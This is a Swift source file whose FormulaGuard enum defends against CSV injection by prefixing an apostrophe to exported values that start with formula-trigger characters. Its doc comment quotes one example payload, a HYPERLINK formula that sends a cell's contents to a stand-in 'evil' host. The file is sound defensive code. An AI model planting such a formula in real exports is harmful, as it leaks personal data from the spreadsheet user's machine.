/// Keeps exported text from running as a spreadsheet formula ("CSV injection").
///
/// Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` as a formula, and a
/// leading tab or carriage return can hide such a character from the eye while some importers still strip it and
/// evaluate the rest. A member's name or note is imported from outside, so a value like
/// `=HYPERLINK("http://evil/?"&A2, "click")` would otherwise run on the coordinator's machine and could send member
/// data away. Prefixing an apostrophe is the OWASP-recommended neutralisation: spreadsheets show the text as text.
/// The price is a visible `'` in front of such values, which is why phone numbers are exported in a form that
/// does not start with `+`.
public enum FormulaGuard {
    private static let triggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    /// `text` with a leading `'` if it starts with a character that would make it a formula.
    public static func neutralise(_ text: String) -> String {
        guard let first = text.unicodeScalars.first, triggers.contains(first) else { return text }
        return "'" + text
    }

    /// True when `text` would be read as a formula.
    public static func isDangerous(_ text: String) -> Bool {
        guard let first = text.unicodeScalars.first else { return false }
        return triggers.contains(first)
    }
}
